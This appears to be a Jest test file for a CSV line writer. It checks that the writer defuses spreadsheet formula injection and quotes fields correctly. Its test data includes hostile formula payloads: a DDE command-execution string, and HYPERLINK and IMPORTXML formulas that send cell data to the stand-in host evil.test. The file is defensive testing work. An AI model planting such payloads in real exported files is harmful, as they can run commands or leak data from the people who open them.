import { readCsv } from '../../../test/builders/read-csv.js';
import { csvLine } from './csv-line.js';

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  ' =',
  '"=',
  "'=",
  '\u00a0=',
];
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.test?x="&A1,"Click")',
  'SUM(A1:A9)*cmd|x',
  'IMPORTXML("http://evil.test","//a")',
  'a,b',
  'a"b',
  '"quoted"',
  'line\r\nbreak',
  'line\nbreak',
  '@SUM(1)',
  '',
  '2+5+cmd',
  'Zoë',
];
/** Fifteen beginnings times fourteen bodies. */
const PAYLOADS = STARTS.flatMap((start) => BODIES.map((body) => start + body));
/** What spreadsheets take for the beginning of a formula. */
const isLive = (cell: string): boolean =>
  /^[\s"\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell) || /^[\t\r\n]/.test(cell);

describe('csvLine', () => {
  // A-101
  it('leaves none of 200 formulas alive, and loses nothing of them', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(200);
    const lines = readCsv(PAYLOADS.map((payload) => csvLine(['before', payload, 'after'])).join(''));
    for (const [index, [before, cell, after]] of lines.entries()) {
      expect([before, after]).toEqual(['before', 'after']);
      expect(isLive(cell!)).toBe(false);
      expect(cell).toBe(`'${PAYLOADS[index]}`);
    }
    expect(lines).toHaveLength(PAYLOADS.length);
  });

  it('quotes what RFC 4180 wants quoted and nothing else', () => {
    expect(csvLine(['plain', 'a,b', 'say "hi"', null, -12.5, 0])).toBe('plain,"a,b","say ""hi""",,-12.5,0\r\n');
  });

  it('lets names and addresses be what they are', () => {
    const harmless = ["O'Neill", 'mara+summit@example.com', 'Zoë de la Cruz', '1-800', 'a=b'];
    expect(readCsv(csvLine(harmless))).toEqual([harmless]);
  });
});
